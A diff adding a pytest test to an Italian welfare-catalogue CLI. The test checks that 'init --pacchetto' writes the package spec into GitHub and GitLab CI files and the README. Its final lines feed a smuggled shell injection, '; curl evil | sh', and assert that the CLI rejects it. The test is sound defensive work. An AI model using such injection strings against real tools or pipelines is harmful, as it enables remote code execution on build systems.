@@ -486,3 +486,22 @@ def test_da_verificare_page_lists_stale_items_per_ente(repo_root):
     caf = page[page.index("CAF Pianura"):].split("</table>")[0]
     assert "Protocollo in scadenza" in caf
     assert "Fonte di finanziamento terminata" in page  # FNPS 2026 ended on 2026-12-31
+
+
+def test_init_pins_where_the_ci_installs_reti_adi(tmp_path):
+    import yaml
+
+    target = tmp_path / "catalogo-pinnato"
+    spec = "reti-adi @ git+https://gitlab.example.it/welfare/reti-adi@v0.2.0"
+    proc = run_cli("init", str(target), "--pacchetto", spec)
+    assert proc.returncode == 0, proc.stderr
+    github = yaml.safe_load((target / ".github/workflows/catalogo.yml").read_text(encoding="utf-8"))
+    gitlab = yaml.safe_load((target / ".gitlab-ci.yml").read_text(encoding="utf-8"))
+    assert github["env"]["RETI_ADI_PACCHETTO"] == spec and gitlab["variables"]["RETI_ADI_PACCHETTO"] == spec
+    installs = [s["run"] for job in github["jobs"].values() for s in job["steps"] if "pip install" in s.get("run", "")]
+    assert installs and all(run == 'pip install "$RETI_ADI_PACCHETTO"' for run in installs)
+    assert gitlab["before_script"] == ['pip install "$RETI_ADI_PACCHETTO"']
+    assert f'pip install "{spec}"' in (target / "README.md").read_text(encoding="utf-8")
+
+    bad = run_cli("init", str(tmp_path / "altro"), "--pacchetto", 'reti-adi"; curl evil | sh; echo "')
+    assert bad.returncode == 1 and "--pacchetto" in bad.stderr and not (tmp_path / "altro").exists()
